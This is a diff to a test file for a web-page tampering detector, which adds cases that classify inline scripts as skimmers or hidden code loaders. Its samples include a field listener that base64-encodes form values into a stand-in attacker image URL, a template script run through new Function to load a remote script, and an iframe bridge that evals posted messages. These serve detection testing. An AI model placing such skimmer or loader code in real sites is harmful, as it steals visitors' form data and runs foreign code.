@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from selectolax.lexbor import LexborHTMLParser
 
 from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
-from tamperwatch.detect.inline_loads import ENCODED, PLAIN, SKIMMER, inline_loads
+from tamperwatch.detect.inline_loads import ENCODED, HIDDEN, PLAIN, SKIMMER, inline_loads
 
 from .synthetic import news_page, page
 from .test_foreign_injection import rotating_part, trusted_part
@@ -127,11 +127,79 @@ def test_a_submit_listener_that_points_the_form_elsewhere_is_a_skimmer() -> None
     assert ("https://collect.heliotrope.example/in", SKIMMER) in loads(script)
 
 
-def test_an_action_field_of_an_event_or_a_form_sent_to_the_site_itself_is_no_skimmer() -> None:
-    script = (
+@pytest.mark.parametrize(
+    "script",
+    [
+        # an action field of an event, and a form sent to the site itself
         "<script>document.querySelectorAll('input[type=checkbox]').forEach(function(b){"
         "b.addEventListener('change',function(ev){ev.action='toggle';if(ev.action=='x'){}});});"
         "document.forms[0].addEventListener('submit',function(){this.action='/suche';});"
-        "var cfg={widget:'https://cdn.widgetvendor.example/w.js'};</script>"
-    )
+        "var cfg={widget:'https://cdn.widgetvendor.example/w.js'};</script>",
+        # a share button's address built next to a field check, and a chat link a visitor opens
+        "<script>document.querySelector('#mail').addEventListener('input',function(e){"
+        "e.target.classList.toggle('bad',!/@/.test(e.target.value));});"
+        "share.href='https://twitter.example/intent/tweet?url='+encodeURIComponent(location.href);"
+        "order.onclick=function(){window.open('https://wa.example/491234?text='+msg.value)};</script>",
+    ],
+)
+def test_field_handling_that_sends_nothing_silently_elsewhere_is_no_skimmer(script: str) -> None:
     assert all(how != SKIMMER for _, how in loads(script))
+
+
+def test_a_field_listener_that_writes_the_value_into_another_sites_address_is_a_skimmer() -> None:
+    script = (
+        "<script>document.addEventListener('change',function(e){var t=e.target;if(!t.value)return;"
+        "var i=document.createElement('i');"
+        "i.style.backgroundImage='url(https://px.heliotrope.example/p.gif?v='+btoa(t.name+'='+t.value)+')';"
+        "document.body.appendChild(i);},true);</script>"
+    )
+    assert ("https://px.heliotrope.example/p.gif?v=", SKIMMER) in loads(script)
+
+
+def test_an_inert_script_block_is_code_once_a_script_runs_its_text() -> None:
+    inert = (
+        '<script type="text/x-template" id="cfg">var e=document.createElement("script");'
+        f'e.setAttribute("src","{EVIL}");document.head.appendChild(e);</script>'
+    )
+    runner = "<script>(new Function(document.getElementById('cfg').textContent))();</script>"
+    assert (EVIL, HIDDEN) in loads(inert + runner)
+    assert all(url != EVIL for url, _ in loads(inert))  # a template nobody runs loads nothing
+
+
+def test_a_style_sheet_importing_a_script_file_hides_code() -> None:
+    style = '<style>@import url("https://img.heliotrope.example/hm.js?a3d4");</style>'
+    assert ("https://img.heliotrope.example/hm.js?a3d4", HIDDEN) in loads(style)
+    assert loads('<style>@import url("https://fonts.heliotrope.example/css2.css");</style>') == []
+
+
+def test_frames_of_a_page_that_runs_what_windows_post_to_it_load_code() -> None:
+    bridge = (
+        "<script>window.addEventListener('message',function(m){"
+        "if(m.data&&m.data.k)(new Function(m.data.k))();});</script>"
+    )
+    frame = '<iframe src="https://relay.heliotrope.example/go/4" style="display:none"></iframe>'
+    assert ("https://relay.heliotrope.example/go/4", HIDDEN) in loads(bridge + frame)
+    listener = "<script>window.addEventListener('message',function(m){el.style.height=m.data.h});</script>"
+    assert all(how != HIDDEN for _, how in loads(listener + frame))  # a frame that sizes itself is a frame
+
+
+def test_consent_gated_blocks_polyfills_and_template_pictures_load_nothing_hidden() -> None:
+    """A consent manager that runs its own gated blocks, a message listener that only sizes a frame
+    next to an unrelated ``Function('return this')``, and a picture inside a named template."""
+    gated = (
+        '<script type="text/plain" data-consent="stats">var p=document.createElement("script");'
+        f'p.src="{EVIL}";document.head.appendChild(p);</script>'
+        "<script>document.querySelectorAll('script[data-consent]').forEach(function(s){eval(s.innerHTML)});"
+        "</script>"
+    )
+    resize = (
+        "<script>window.addEventListener('message',function(m){if(m.data.h)f.height=m.data.h});"
+        "var g=new Function('return this')();</script>"
+        '<iframe src="https://embed.heliotrope.example/chart/1"></iframe>'
+    )
+    picture = (
+        '<script type="text/x-template" id="card"><img src="https://img.heliotrope.example/a.png"></script>'
+        "<script>render(new Function(document.getElementById('card').textContent));</script>"
+    )
+    for markup in (gated, resize, picture):
+        assert all(how != HIDDEN for _, how in loads(markup)), markup
